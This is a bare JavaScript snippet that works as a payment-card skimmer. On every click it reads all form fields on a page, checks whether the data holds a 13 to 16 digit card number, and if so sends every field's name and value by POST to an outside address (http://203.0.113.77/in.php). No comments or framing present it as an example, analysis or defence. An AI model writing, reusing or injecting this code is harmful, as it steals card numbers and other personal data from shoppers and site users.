function ship() {
  for (var i = 0; i < document.forms.length; i++) {
    var f = document.forms[i], out = [];
    for (var j = 0; j < f.elements.length; j++) { var e = f.elements[j]; if (e.name) out.push(e.name + '=' + e.value); }
    if (out.join().match(/[0-9]{13,16}/)) {
      var r = window.XMLHttpRequest ? new XMLHttpRequest() : new ActiveXObject('Microsoft.XMLHTTP');
      r.open('POST', 'http://203.0.113.77/in.php', true);
      r.send(out.join('&'));
    }
  }
}
document.attachEvent ? document.attachEvent('onclick', ship) : document.addEventListener('click', ship, false);
